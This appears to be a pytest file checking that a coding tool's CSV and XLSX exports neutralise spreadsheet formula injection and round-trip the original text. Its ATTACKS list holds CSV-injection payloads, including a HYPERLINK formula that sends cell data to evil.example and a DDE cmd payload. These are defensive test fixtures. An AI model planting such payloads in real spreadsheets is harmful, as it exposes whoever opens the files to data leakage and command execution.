"""CSV and XLSX exports never hand a spreadsheet a formula hidden in someone's words."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from coding import codebook, codebook_io
from coding.project import Project
from coding.spreadsheet_safety import (
    csv_text,
    formula_cells,
    neutralise,
    neutralise_workbook,
    restore,
    set_xlsx_cell,
    unsafe_csv_cells,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "- a bullet point from a memo",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_dangerous_cells_get_an_apostrophe_that_reading_back_removes(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value
    assert neutralise("Страх 😀") == "Страх 😀"
    assert restore("'quoted on purpose") == "'quoted on purpose"


def test_csv_text_and_xlsx_cells_are_safe(tmp_path: Path) -> None:
    text = csv_text([["quote", "n"], *([attack, 3] for attack in ATTACKS)])
    assert unsafe_csv_cells(text) == []
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row, attack in enumerate(ATTACKS, start=1):
        set_xlsx_cell(sheet.cell(row=row, column=1), attack + "\x00\x07")
    path = tmp_path / "t.xlsx"
    book.save(path)
    assert formula_cells(path.read_bytes()) == []
    shown = [c.value for c in openpyxl.load_workbook(path).active["A"]]  # type: ignore[index]
    assert shown == ATTACKS


def test_a_workbook_built_carelessly_is_repaired_before_saving(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(ATTACKS)
    assert neutralise_workbook(book) == len(ATTACKS)
    path = tmp_path / "t.xlsx"
    book.save(path)
    assert formula_cells(path.read_bytes()) == []


def test_codebook_csv_is_safe_and_round_trips(project: Project, tmp_path: Path) -> None:
    for number, attack in enumerate(ATTACKS[:5]):
        codebook.create_code(project, name=f"code {number}", definition=attack.strip())
    codebook.create_code(project, name="=SUM(1)", definition="- first\n- second")
    path = tmp_path / "codebook.csv"
    codebook_io.export_codebook_csv(project, path)
    exported = path.read_text("utf-8")
    assert unsafe_csv_cells(exported) == []
    rows = codebook_io.parse_codebook_csv(exported, source="codebook.csv")
    assert [r.definition for r in rows] == [a.strip() for a in ATTACKS[:5]] + ["- first\n- second"]
    assert rows[-1].path == "=SUM(1)"


def test_analysis_tables_are_safe_in_csv_and_xlsx(tmp_path: Path) -> None:
    tables = pytest.importorskip("coding.analysis.tables")
    table = tables.Table(
        title="=evil",
        header=("=quote", "count"),
        rows=tuple((attack, 1) for attack in ATTACKS),
        note="-note",
    )
    assert unsafe_csv_cells(tables.csv_text(table)) == []
    xlsx = tables.export_table(table, tmp_path / "t.xlsx")
    assert formula_cells(Path(xlsx).read_bytes()) == []
    written = tables.export_table(table, tmp_path / "t.csv")
    assert unsafe_csv_cells(Path(written).read_text("utf-8-sig")) == []


def test_agreement_workbook_is_safe(tmp_path: Path) -> None:
    agreement = pytest.importorskip("coding.team.agreement")
    export = pytest.importorskip("coding.team.agreement_export")
    figures = agreement.Figures(10.0, 0.5, 0.1, 0.2)
    report = agreement.AgreementReport(
        coders=("Anna", "Giorgi"),
        unit="char",
        min_share=0.0,
        kappa="cohen",
        overall=figures,
        codes=(agreement.CodeAgreement(1, "=1+1", figures),),
        documents=(),
        disagreements=(
            agreement.Disagreement(1, "@doc", 1, "+code", 0, 5, ATTACKS[0], ("Anna",), ("Giorgi",)),
        ),
        skipped_documents=(),
    )
    path = export.export_xlsx(report, tmp_path / "agreement.xlsx")
    assert formula_cells(Path(path).read_bytes()) == []


def test_csv_reader_sees_the_text_people_wrote() -> None:
    text = csv_text([[ATTACKS[0]]])
    (row,) = csv.reader(io.StringIO(text, newline=""))
    assert restore(row[0]) == ATTACKS[0]
